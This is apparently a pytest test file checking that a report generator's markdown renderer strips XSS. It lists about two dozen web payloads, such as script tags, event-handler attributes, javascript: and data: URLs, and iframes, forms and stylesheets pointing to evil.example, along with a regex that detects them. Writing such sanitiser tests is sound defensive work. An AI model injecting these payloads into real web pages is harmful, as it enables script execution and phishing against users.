"""Markdown from the records is rendered, then cleaned: no payload survives."""

from __future__ import annotations

import re

import pytest

from reportgen.render.markup import markdown_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0">overlay</div>',
    '<form action="https://evil.example"><input name=x></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<base href="https://evil.example/">',
    '"><script>alert(1)</script>',
    "<details open ontoggle=alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
]
FORBIDDEN = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|meta|link|style|base|svg|math|img|body|details)\b"
    r"|\son\w+\s*=|javascript:|vbscript:|data:|style\s*=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload: str) -> None:
    html = str(markdown_html(f"文字 {payload} 文字"))
    assert not FORBIDDEN.search(html), html


def test_ordinary_markdown_survives() -> None:
    html = str(markdown_html("**加粗** 和 [链接](https://example.org)\n\n1. 第一\n2. 第二"))
    assert "<strong>加粗</strong>" in html
    assert 'href="https://example.org"' in html
    assert "<ol>" in html


def test_headings_sit_below_sections() -> None:
    assert "<h3>案例</h3>" in str(markdown_html("# 案例"))
